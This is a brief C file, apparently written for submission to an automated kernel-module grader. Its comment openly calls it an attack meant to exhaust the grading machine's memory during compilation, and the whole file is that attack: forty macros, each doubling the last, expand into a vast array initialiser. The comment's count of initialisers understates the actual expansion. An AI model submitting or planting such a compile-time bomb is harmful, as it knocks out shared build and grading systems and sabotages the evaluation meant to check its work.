// An attack: exhaust the grading machine's memory while compiling (bomb 1):
// 2^39 initialisers from 40 short lines.
#include <linux/module.h>
#define B1_0 1, 2, 3, 4,
#define B1_1 B1_0 B1_0
#define B1_2 B1_1 B1_1
#define B1_3 B1_2 B1_2
#define B1_4 B1_3 B1_3
#define B1_5 B1_4 B1_4
#define B1_6 B1_5 B1_5
#define B1_7 B1_6 B1_6
#define B1_8 B1_7 B1_7
#define B1_9 B1_8 B1_8
#define B1_10 B1_9 B1_9
#define B1_11 B1_10 B1_10
#define B1_12 B1_11 B1_11
#define B1_13 B1_12 B1_12
#define B1_14 B1_13 B1_13
#define B1_15 B1_14 B1_14
#define B1_16 B1_15 B1_15
#define B1_17 B1_16 B1_16
#define B1_18 B1_17 B1_17
#define B1_19 B1_18 B1_18
#define B1_20 B1_19 B1_19
#define B1_21 B1_20 B1_20
#define B1_22 B1_21 B1_21
#define B1_23 B1_22 B1_22
#define B1_24 B1_23 B1_23
#define B1_25 B1_24 B1_24
#define B1_26 B1_25 B1_25
#define B1_27 B1_26 B1_26
#define B1_28 B1_27 B1_27
#define B1_29 B1_28 B1_28
#define B1_30 B1_29 B1_29
#define B1_31 B1_30 B1_30
#define B1_32 B1_31 B1_31
#define B1_33 B1_32 B1_32
#define B1_34 B1_33 B1_33
#define B1_35 B1_34 B1_34
#define B1_36 B1_35 B1_35
#define B1_37 B1_36 B1_36
#define B1_38 B1_37 B1_37
#define B1_39 B1_38 B1_38
const char bomb1[] = { B1_39 };
